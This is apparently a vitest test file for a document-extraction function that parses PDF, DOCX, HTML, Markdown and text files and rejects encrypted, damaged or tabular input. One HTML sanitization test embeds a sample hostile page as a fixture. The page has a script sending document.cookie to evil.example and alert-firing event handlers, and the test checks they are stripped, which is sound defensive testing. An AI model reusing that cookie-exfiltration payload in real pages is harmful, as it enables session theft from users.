import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { DocumentCorruptError } from "../errors/document-corrupt-error.ts";
import { DocumentEncryptedError } from "../errors/document-encrypted-error.ts";
import { DocumentNotSearchableError } from "../errors/document-not-searchable-error.ts";
import { extractDocument } from "./extract-document.ts";
import type { ExtractedDocument } from "./extracted-document.ts";

const fixture = (name: string) =>
  new Uint8Array(readFileSync(new URL(`../__fixtures__/${name}`, import.meta.url)));
const utf8 = (text: string) => new TextEncoder().encode(text);
/** The sections whose text contains the phrase. */
const sectionsWith = (document: ExtractedDocument, phrase: string) =>
  document.sections.filter((section) => section.text.includes(phrase));

describe("extractDocument: PDF (Federal Register, 15 pages)", async () => {
  const progress: [number, number][] = [];
  const document = await extractDocument({
    bytes: fixture("federal-register-2020-17221.pdf"),
    format: "pdf",
    onProgress: (done, total) => progress.push([done, total]),
  });

  it("counts the pages and reports progress once per page", () => {
    expect(document.pages).toBe(15);
    expect(progress).toHaveLength(15);
    expect(progress.at(-1)).toEqual([15, 15]);
    expect(document.language).toBe("en");
  });

  it("puts each phrase on the page it is printed on", () => {
    expect(sectionsWith(document, "Airworthiness Directives; The Boeing").map((s) => s.page)).toContain(1);
    expect(sectionsWith(document, "ESTIMATED COSTS\n").map((s) => s.page)).toEqual([5]);
    expect(sectionsWith(document, "ESTIMATED COSTS—Continued").map((s) => s.page)).toEqual([6]);
    expect(sectionsWith(document, "AOA sensor system test ....").map((s) => s.page)).toContain(6);
  });

  it("keeps a table row's cells on one line", () => {
    const [table] = sectionsWith(document, "ESTIMATED COSTS\n");
    expect(table?.text).toContain("Action | Labor cost | Parts cost | Cost per product | Cost on U.S.");
    expect(table?.text).toMatch(/^AFM revisions \.+ 1 work-hour × \$85 per hour = \$85 .*\$6,205\.$/m);
  });

  it("drops the running header repeated on every page", () => {
    expect(sectionsWith(document, "Jkt 250001")).toEqual([]);
  });

  it("takes a line in a large font as the heading", () => {
    expect(document.sections.find((section) => section.page === 1 && section.heading)?.heading).toMatch(
      /^Proposed Rules/,
    );
  });
});

describe("extractDocument: bad PDFs", () => {
  it("refuses a password-protected PDF (pdfplumber's test corpus)", async () => {
    const refusal = extractDocument({ bytes: fixture("password-example.pdf"), format: "pdf" });
    await expect(refusal).rejects.toBeInstanceOf(DocumentEncryptedError);
    await expect(refusal).rejects.toThrow(/protected by a password/);
  });

  it("refuses a truncated PDF as damaged", async () => {
    const truncated = fixture("federal-register-2020-17221.pdf").slice(0, 20_000);
    await expect(extractDocument({ bytes: truncated, format: "pdf" })).rejects.toBeInstanceOf(
      DocumentCorruptError,
    );
  });

  it("refuses bytes that only start like a PDF", async () => {
    const fake = utf8("%PDF-1.7\nthis is not really a PDF at all\n");
    await expect(extractDocument({ bytes: fake, format: "pdf" })).rejects.toThrow(/damaged or incomplete/);
  });

  it("stops when the signal is aborted", async () => {
    const controller = new AbortController();
    const reading = extractDocument({
      bytes: fixture("federal-register-2020-17221.pdf"),
      format: "pdf",
      signal: controller.signal,
      onProgress: (done) => {
        if (done === 2) controller.abort();
      },
    });
    await expect(reading).rejects.toThrow();
  });
});

describe("extractDocument: DOCX (US Trustee Program handbook)", async () => {
  const document = await extractDocument({
    bytes: fixture("chapter-13-trustee-handbook.docx"),
    format: "docx",
  });

  it("splits on the Word headings and keeps their path", () => {
    const headings = document.sections.map((section) => section.heading);
    expect(headings).toContain("CHAPTER 1 – INTRODUCTION > A. PURPOSE");
    expect(headings).toContain(
      "CHAPTER 3 - ADMINISTRATION OF CHAPTER 13 CASES > A. INITIAL REVIEW OF CHAPTER 13 CASES > 1. CONFLICTS OF INTEREST",
    );
    expect(document.pages).toBe(document.sections.length);
    expect(document.sections.every((section) => section.page === null)).toBe(true);
  });

  it("reads the text under a heading", () => {
    const [purpose] = document.sections.filter((s) => s.heading === "CHAPTER 1 – INTRODUCTION > A. PURPOSE");
    expect(purpose?.text).toMatch(/^The United States Trustee appoints and supervises standing trustees/);
  });

  it("keeps a table's cells on one line, paragraphs in a cell separated", () => {
    expect(document.sections.some((s) => s.text.includes("| 11 U.S.C. § 343 11 U.S.C. § 344 |"))).toBe(true);
  });
});

describe("extractDocument: HTML (RFC 9111)", async () => {
  const document = await extractDocument({ bytes: fixture("rfc9111.html"), format: "html" });

  it("reads the title and splits on the headings, nested", () => {
    expect(document.title).toBe("RFC 9111 - HTTP Caching");
    const headings = document.sections.map((section) => section.heading);
    expect(headings).toContain("3. Storing Responses in Caches > 3.1. Storing Header and Trailer Fields");
    // Readability alone drops this section (its id contains "header"); it must survive.
    expect(headings).toContain("5. Field Definitions > 5.1. Age");
  });

  it("keeps the registry table's rows", () => {
    const [registry] = document.sections.filter((s) =>
      s.heading?.endsWith("8.2. Cache Directive Registration"),
    );
    expect(registry?.text).toContain("max-age | 5.2.1.1, 5.2.2.1");
    expect(registry?.text).toContain("s-maxage | 5.2.2.10");
  });

  it("never lets scripts, styles or event handlers reach the text", async () => {
    const page = `<!doctype html><html><head><title>Offers</title><style>.x{color:red}</style>
      <script>window.stolen = document.cookie</script></head><body>
      <nav><a href="/">Home</a></nav>
      <article><h1>Spring offers</h1><p>Our spring catalogue has <b>new</b> garden chairs.</p>
      <p onclick="alert('gotcha')">Prices are valid until the end of May.</p>
      <script>fetch('https://evil.example/' + document.cookie)</script>
      <img src="x" onerror="alert(1)"><h2>Delivery</h2><p>Delivery takes three days.</p></article></body></html>`;
    const extracted = await extractDocument({ bytes: utf8(page), format: "html" });
    const text = extracted.sections.map((section) => `${section.heading} ${section.text}`).join("\n");
    expect(text).toContain("Prices are valid until the end of May.");
    expect(extracted.sections.at(-1)?.heading).toMatch(/Delivery$/);
    for (const forbidden of ["cookie", "alert", "color:red", "evil.example", "gotcha"])
      expect(text).not.toContain(forbidden);
  });
});

describe("extractDocument: Markdown and text", () => {
  it("splits Fastify's Errors.md on its ATX headings and keeps its tables", async () => {
    const document = await extractDocument({ bytes: fixture("fastify-errors.md"), format: "markdown" });
    const headings = document.sections.map((section) => section.heading);
    expect(headings).toContain("Errors > Error Handling In Node.js > Uncaught Errors");
    expect(headings).toContain("Errors > Fastify Error Codes");
    expect(
      document.sections.some((s) =>
        /^\| Code \| Description \| How to solve \| Discussion \|$/m.test(s.text),
      ),
    ).toBe(true);
  });

  it("reads setext headings, and not '#' lines inside code fences", async () => {
    const markdown = "Guide\n=====\n\nIntro.\n\nSetup\n-----\n\n```sh\n# not a heading\nnpm start\n```\n";
    const document = await extractDocument({ bytes: utf8(markdown), format: "markdown" });
    expect(document.title).toBe("Guide");
    expect(document.sections.map((s) => s.heading)).toEqual(["Guide", "Guide > Setup"]);
    expect(document.sections[1]?.text).toContain("# not a heading");
  });

  it("detects Spanish in The Art of Command Line's Spanish translation", async () => {
    const document = await extractDocument({
      bytes: fixture("the-art-of-command-line.es.md"),
      format: "markdown",
    });
    expect(document.language).toBe("es");
    expect(document.title).toBe("El Arte del Terminal");
    expect(document.sections.map((s) => s.heading)).toContain(
      "El Arte del Terminal > Depuración del sistema",
    );
  });

  it("reads text as paragraphs", async () => {
    const text = "First line\nof one paragraph.\n\n\nSecond paragraph.\n";
    const document = await extractDocument({ bytes: utf8(text), format: "text" });
    expect(document.sections).toEqual([
      { page: null, heading: null, text: "First line of one paragraph.\n\nSecond paragraph." },
    ]);
  });

  it("gives no sections for an empty document", async () => {
    const document = await extractDocument({ bytes: utf8("  \n\n "), format: "text" });
    expect(document.sections).toEqual([]);
    expect(document.pages).toBe(0);
  });
});

describe("extractDocument: tables are not documents", () => {
  it.each(["csv", "xlsx"] as const)("refuses %s with a message that says what to do", async (format) => {
    const refusal = extractDocument({ bytes: utf8("a,b\n1,2\n"), format });
    await expect(refusal).rejects.toBeInstanceOf(DocumentNotSearchableError);
    await expect(refusal).rejects.toThrow(/add it as a table/);
  });
});
